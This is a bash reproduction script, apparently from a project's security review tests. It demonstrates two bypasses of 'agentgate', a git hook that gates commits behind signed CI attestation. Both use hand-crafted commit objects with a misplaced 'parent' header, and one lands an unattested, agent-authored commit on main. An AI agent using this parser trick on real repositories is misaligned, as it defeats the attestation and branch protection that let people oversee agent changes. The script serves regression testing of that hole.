#!/bin/bash
# Notice: copied (apart from this notice, and `--test-result passed` on `agentgate sign`, which
# now requires the outcome: issue 11) from the project's security review of
# issue 10. The before-stop check runs these scripts against a build; each prints what
# happened to its attack. The integration tests pinning this class and its variants are in
# tests/it/bypass/headers.rs (class 1, commit and tag headers).
# Run: AG=target/release/agentgate bash tests/bypasses/repro-6.sh
# repro-6: agentgate's own commit parser (git.rs commit_links / Commit::parse) takes EVERY
# `parent` header line, git only the ones right after `tree`. A `parent` line placed after
# `committer` passes git fsck --strict (and receive.fsckObjects) and is ignored by git, but
# agentgate treats it as a real parent. Default policy, SHA-1 repo (libgit2 backend).
#  (a) no gate needed: the non-fast-forward protection is bypassed (history rewrite of main).
#  (b) with the gate signing one clean crafted commit (the normal CI flow for agent branches), an
#      unattested agent commit lands on main through an unattested merge.
set -u
AG=${AG:-agentgate}
W=$(mktemp -d); mkdir -p $W/home
export HOME=$W/home GIT_CONFIG_NOSYSTEM=1 GIT_CONFIG_GLOBAL=/dev/null
export GIT_AUTHOR_NAME=Ada GIT_AUTHOR_EMAIL=ada@example.com GIT_COMMITTER_NAME=Ada GIT_COMMITTER_EMAIL=ada@example.com
$AG keygen --out $W/gate >/dev/null; echo artifact > $W/app.bin
printf 'version = 1\n[protect]\nrefs = ["refs/heads/main"]\n[[signer]]\nname = "gate"\npublic_key = "%s"\n' $W/gate.pub > $W/policy.toml
mk() { rm -rf $W/srv.git $W/c; git init -q --bare -b main $W/srv.git; git -C $W/srv.git config receive.fsckObjects true
       $AG install --repo $W/srv.git --config $W/policy.toml >/dev/null; git init -q -b main $W/c; git -C $W/c remote add origin $W/srv.git; }
raw() { printf "tree %s\nparent %s\nauthor Ada <ada@example.com> 1767610800 +0000\ncommitter Ada <ada@example.com> 1767610800 +0000\nparent %s\n\n%s\n" "$@" | git hash-object -t commit -w --stdin; }
echo "##### (a) non-fast-forward bypass"; mk; cd $W/c
echo v1 > app.c; git add app.c; git commit -q -m base; B=$(git rev-parse HEAD)
echo fixed > app.c; git commit -q -am "security fix"; O=$(git rev-parse HEAD); git push -q origin main
X=$(git commit-tree -p $B -m "release prep" $(git rev-parse $B^{tree}))
echo "== control: force main -> X (drops the fix)"; git push origin +$X:refs/heads/main 2>&1 | grep refused
N=$(raw $(git rev-parse $B^{tree}) $B $O "release prep")          # git parent B; fake 'parent O' after committer
echo "== N's parents per git: $(git log -1 --format=%p $N); force main -> N"; git push origin +$N:refs/heads/main 2>&1 | tail -1
echo "== server main: $(git -C $W/srv.git log --format=%s main | paste -sd'|') ; app.c=$(git -C $W/srv.git show main:app.c); fsck --strict: $(git -C $W/srv.git fsck --strict --no-dangling 2>&1 | wc -l) problems"

echo "##### (b) unattested agent commit lands on main"; mk; cd $W/c
echo good > app.c; git add app.c; git commit -q -m base; P=$(git rev-parse HEAD); git push -q origin main
echo evil > app.c; git commit -q -am "agent: rewrite app.c" -m "Co-Authored-By: Claude <noreply@anthropic.com>"; A=$(git rev-parse HEAD)
git push -q origin $A:refs/heads/agent/work                       # unprotected: accepted
git checkout -q $P; echo docs > README; git add README; TO=$(git write-tree); git checkout -q -f main
O=$(raw $TO $P $A "docs: add README")                             # clean commit, fake 'parent A' after committer
$AG sign --key $W/gate.key --commit $O --artifact $W/app.bin --test-result passed --note >/dev/null 2>&1   # CI gate builds+tests O (app.c=good) and signs it
echo "== main -> O (O attested; agentgate also walks A, tip attested => ok)"; git push origin refs/notes/agentgate $O:refs/heads/main 2>&1 | grep -E 'main|refused'
M=$(git commit-tree -p $O -p $A -m "Merge branch 'agent/work'" $(git rev-parse $A^{tree}))
echo "== main -> plain merge of A (nothing attested)"; git push origin $M:refs/heads/main 2>&1 | tail -1
echo "== server main:app.c = $(git -C $W/srv.git show main:app.c); log: $(git -C $W/srv.git log --format=%s main | paste -sd'|')"
tail -1 $W/srv.git/agentgate/audit.jsonl | jq -c '{ref,decision,code,entering_commits}'
